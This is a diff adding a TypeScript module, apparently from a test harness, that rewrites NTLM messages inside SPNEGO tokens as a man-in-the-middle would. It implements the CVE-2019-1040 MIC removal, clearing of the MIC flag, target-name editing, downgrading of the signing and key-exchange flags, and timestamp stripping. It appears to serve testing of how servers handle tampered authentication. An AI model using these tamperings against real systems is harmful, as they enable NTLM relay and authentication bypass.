@@ -1,0 +1,119 @@
+import {
+  type AuthenticateMessage,
+  AV_FLAGS,
+  AV_ID,
+  type AvPair,
+  avFlags,
+  avPair,
+  type ChallengeMessage,
+  decodeAvPairs,
+  decodeNtlmMessage,
+  decodeNtlmV2Response,
+  encodeAvPairs,
+  encodeNtlmMessage,
+  encodeNtlmV2Response,
+  isNtlm,
+  MIC_OFFSET,
+  type NegotiateFlag,
+  type NegotiateMessage,
+  type NtlmMessage,
+  negotiateFlags,
+  type PayloadItem,
+} from '../codec/ntlm/index.js';
+import { decodeNegToken, encodeNegToken, type NegToken } from '../codec/spnego/index.js';
+
+/** What the attacker changes in the messages that pass; each message without a function passes as it came. */
+export interface Tampering {
+  readonly negotiate?: (message: NegotiateMessage) => NegotiateMessage;
+  readonly challenge?: (message: ChallengeMessage) => ChallengeMessage;
+  readonly authenticate?: (message: AuthenticateMessage) => AuthenticateMessage;
+}
+
+/** A token as it goes on: the NTLM message in it changed, the SPNEGO around it as it was. */
+export function tampered(token: Uint8Array, tampering: Tampering | undefined): Uint8Array {
+  if (tampering === undefined) return token;
+  if (isNtlm(token)) return changeMessage(token, tampering);
+  const { octets: _, ...outer }: NegToken = decodeNegToken(token);
+  if (outer.kind === 'NegTokenInit') {
+    if (outer.mechToken === undefined) return token;
+    return encodeNegToken({ ...outer, mechToken: changeMessage(outer.mechToken, tampering) });
+  }
+  if (outer.responseToken === undefined) return token;
+  return encodeNegToken({ ...outer, responseToken: changeMessage(outer.responseToken, tampering) });
+}
+
+function changeMessage(token: Uint8Array, { negotiate, challenge, authenticate }: Tampering): Uint8Array {
+  const message: NtlmMessage = decodeNtlmMessage(token);
+  if (message.MessageType === 1 && negotiate) return encodeNtlmMessage(negotiate(message));
+  if (message.MessageType === 2 && challenge) return encodeNtlmMessage(challenge(message));
+  if (message.MessageType === 3 && authenticate) return encodeNtlmMessage(authenticate(message));
+  return token;
+}
+
+/** The same values without their places, so that they are laid out anew. */
+function relaid<M extends NtlmMessage>(message: M): M {
+  const { gaps: _, headerLength: __, ...fields } = message;
+  const entries = Object.entries(fields).map(([name, value]) => [name, isItem(value) ? { bytes: value.bytes } : value]);
+  return Object.fromEntries(entries) as M;
+}
+
+const isItem = (value: unknown): value is PayloadItem =>
+  typeof value === 'object' && value !== null && 'bytes' in value && 'maxLength' in value;
+
+/** CVE-2019-1040: the AUTHENTICATE_MESSAGE without room for a MIC, though MsvAvFlags announces one. */
+const withoutMic = (message: AuthenticateMessage): AuthenticateMessage => {
+  const { MIC: _, ...rest } = relaid(message);
+  return { ...rest, headerLength: MIC_OFFSET };
+};
+
+/** Changes the AV pairs of an NTLMv2 response, and leaves NTProofStr, which is over them, as it was: [MS-NLMP] 3.3.2. */
+const withPairs =
+  (change: (pairs: readonly AvPair[]) => AvPair[]) =>
+  (message: AuthenticateMessage): AuthenticateMessage => {
+    const response = decodeNtlmV2Response(message.NtChallengeResponse?.bytes ?? new Uint8Array(0));
+    const { ClientChallenge } = response;
+    const AvPairs = { ...ClientChallenge.AvPairs, pairs: change(ClientChallenge.AvPairs.pairs) };
+    const bytes = encodeNtlmV2Response({ ...response, ClientChallenge: { ...ClientChallenge, AvPairs } });
+    return { ...relaid(message), NtChallengeResponse: { bytes } };
+  };
+
+const replaced = (pairs: readonly AvPair[], pair: AvPair): AvPair[] =>
+  pairs.map((each) => (each.AvId === pair.AvId ? pair : each));
+
+/** The bit of MsvAvFlags that announces a MIC, cleared. */
+function withoutMicBit(pairs: readonly AvPair[]): AvPair[] {
+  const value = Buffer.alloc(4);
+  value.writeUInt32LE((avFlags(pairs) & ~AV_FLAGS.MIC_PRESENT) >>> 0);
+  return replaced(pairs, avPair('MsvAvFlags', value));
+}
+
+const withoutFlags =
+  (...flags: readonly NegotiateFlag[]) =>
+  <M extends NegotiateMessage | ChallengeMessage>(message: M): M => ({
+    ...message,
+    NegotiateFlags: (message.NegotiateFlags & ~negotiateFlags(...flags)) >>> 0,
+  });
+
+/**
+ * [MS-NLMP] 3.1.5.1.2: a client adds a MIC for servers whose CHALLENGE_MESSAGE has MsvAvTimestamp; this one loses it.
+ * By the text nothing tells the server that its own message was changed; whether Windows has more checks no source says.
+ */
+const withoutTime = (message: ChallengeMessage): ChallengeMessage => {
+  const info = decodeAvPairs(message.TargetInfo?.bytes ?? new Uint8Array(0));
+  const pairs = info.pairs.filter(({ AvId }) => AvId !== AV_ID.MsvAvTimestamp);
+  return { ...relaid(message), TargetInfo: { bytes: encodeAvPairs({ ...info, pairs }) } };
+};
+
+const SESSION_SECURITY = ['NTLMSSP_NEGOTIATE_SIGN', 'NTLMSSP_NEGOTIATE_KEY_EXCH'] as const;
+
+/** Tamperings by what they do. */
+export const TAMPERINGS = {
+  micDropped: { authenticate: withoutMic },
+  micDisowned: { authenticate: (message) => withoutMic(withPairs(withoutMicBit)(message)) },
+  targetNameEdited: {
+    authenticate: withPairs((pairs) => replaced(pairs, avPair('MsvAvTargetName', 'RPCSS/harness'))),
+  },
+  flagsDowngraded: { negotiate: withoutFlags(...SESSION_SECURITY) },
+  timeRemoved: { challenge: withoutTime },
+  timeRemovedAndFlagsDowngraded: { challenge: withoutTime, negotiate: withoutFlags(...SESSION_SECURITY) },
+} as const satisfies Record<string, Tampering>;
